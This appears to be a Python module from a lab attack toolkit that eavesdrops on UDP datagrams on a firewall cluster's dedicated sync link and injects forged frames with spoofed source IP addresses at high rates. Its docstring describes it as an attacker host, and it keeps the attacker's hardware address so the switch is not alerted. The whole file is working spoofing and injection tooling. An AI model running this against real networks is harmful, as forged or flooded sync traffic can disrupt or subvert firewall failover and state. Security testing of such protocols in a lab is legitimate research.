"""A host on the dedicated link: overhears every UDP datagram of a switch port, and sends some from any address.

Frames are made whole, on a packet socket, so that the source can be anybody; the hardware address is always the
attacker's own, or the switch would learn that the victim has moved. IPv4 only."""
import errno
import select
import socket
import struct
import time

try:
    import ctypes
except ImportError:                     # python3-minimal: then it is slower
    ctypes = None

ETH_P_IP, ETH_P_ALL = 0x0800, 3
SOL_PACKET, PACKET_QDISC_BYPASS = 263, 20
SO_RCVBUFFORCE = 33
ATTACKER = bytes.fromhex("020000006666")
BATCH = 64

# The dedicated link of the lab, as its switch sees it.
LINK, TAP, PORT = "sync", "fw1-sync", 3780
NODES = {"fw1": "10.10.3.1", "fw2": "10.10.3.2"}
GROUP = "225.0.0.50"


class Datagram:
    """What was overheard: hardware addresses and IPv4 addresses (text) as they were, and the UDP payload."""

    def __init__(self, to, origin, source, target, payload):
        self.to, self.origin, self.source, self.target, self.payload = to, origin, source, target, payload


def parse(frame, port):
    """The UDP datagram for the port in an Ethernet frame, or None."""
    if frame[12:14] != b"\x08\x00" or len(frame) < 42 or frame[23] != 17:
        return None
    udp = 14 + (frame[14] & 15) * 4
    target_port, length = struct.unpack_from("!HH", frame, udp + 2)
    if target_port != port:
        return None
    source, target = socket.inet_ntoa(frame[26:30]), socket.inet_ntoa(frame[30:34])
    return Datagram(frame[:6], frame[6:12], source, target, frame[udp + 8:udp + length])


def overhear(until, interface=TAP, port=PORT):
    """Yields datagrams as they pass, and None whenever a tenth of a second was silent, to a monotonic time. What this
    host sends itself is left out."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL)) as sock:
        sock.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, 1 << 24)
        sock.bind((interface, ETH_P_ALL))
        while time.monotonic() < until:
            if not select.select([sock], [], [], 0.1)[0]:
                yield None
                continue
            datagram = parse(sock.recv(65536), port)
            if datagram and datagram.origin != ATTACKER:
                yield datagram


def checksum(header):
    total = sum(struct.unpack("!%dH" % (len(header) // 2), header))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def frame(to, source, target, payload, port=PORT):
    """An Ethernet frame with a UDP datagram; no UDP checksum, which IPv4 allows."""
    length = 28 + len(payload)
    addresses = socket.inet_aton(source) + socket.inet_aton(target)
    head = struct.pack("!BBHHHBB", 0x45, 0, length, 0, 0, 64, 17)
    ip = head + struct.pack("!H", checksum(head + bytes(2) + addresses)) + addresses
    return to + ATTACKER + b"\x08\x00" + ip + struct.pack("!HHHH", port, port, length - 20, 0) + payload


class Sender:
    """Sends frames on an interface, again and again if need be."""

    def __init__(self, interface=LINK):
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        self.sock.bind((interface, 0))
        self.sock.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
        self.libc = ctypes.CDLL(None, use_errno=True) if ctypes else None
        self.due = time.monotonic()     # when the next frame may leave

    def send(self, frames, rate, until=None):
        """Sends all frames once, or over and over to a monotonic time, at most so many a second. Returns how many."""
        messages = self.prepare(frames) if self.libc else None
        sent = 0
        size = max(1, min(BATCH, int(rate / 100)))
        while True:
            for start in range(0, len(frames), size):
                now = time.monotonic()
                if self.due > now:
                    time.sleep(self.due - now)
                count = min(size, len(frames) - start)
                # who was held up for a moment catches up, but no more than that
                self.due = max(self.due, now - 0.1) + count / rate
                sent += self.many(messages, start, count) if messages else self.one_by_one(frames[start:start + count])
                if until is not None and time.monotonic() >= until:
                    return sent
            if until is None:
                return sent

    def one_by_one(self, frames):
        for each in frames:
            try:
                self.sock.send(each)
            except OSError as error:
                if error.errno != errno.ENOBUFS:
                    raise
        return len(frames)

    def prepare(self, frames):
        """struct mmsghdr for each frame; what it points to is kept alive beside it."""
        class Vector(ctypes.Structure):
            _fields_ = [("base", ctypes.c_char_p), ("length", ctypes.c_size_t)]

        class Header(ctypes.Structure):
            _fields_ = [("name", ctypes.c_void_p), ("name_length", ctypes.c_uint), ("vectors", ctypes.c_void_p),
                        ("vector_count", ctypes.c_size_t), ("control", ctypes.c_void_p),
                        ("control_length", ctypes.c_size_t), ("flags", ctypes.c_int)]

        class Message(ctypes.Structure):
            _fields_ = [("header", Header), ("sent", ctypes.c_uint)]

        vectors = (Vector * len(frames))(*[Vector(each, len(each)) for each in frames])
        step = ctypes.sizeof(Vector)
        at = ctypes.addressof(vectors)
        headers = (Header(vectors=at + n * step, vector_count=1) for n in range(len(frames)))
        messages = (Message * len(frames))(*[Message(header) for header in headers])
        return messages, ctypes.sizeof(Message), vectors, frames

    def many(self, prepared, start, count):
        messages, size = prepared[:2]
        done = 0
        while done < count:
            at = ctypes.addressof(messages) + (start + done) * size
            sent = self.libc.sendmmsg(self.sock.fileno(), ctypes.c_void_p(at), count - done, 0)
            if sent < 0 and ctypes.get_errno() not in (errno.ENOBUFS, errno.EAGAIN, errno.EINTR):
                raise OSError(ctypes.get_errno(), "sendmmsg")
            done += max(sent, 0) or 1
        return count
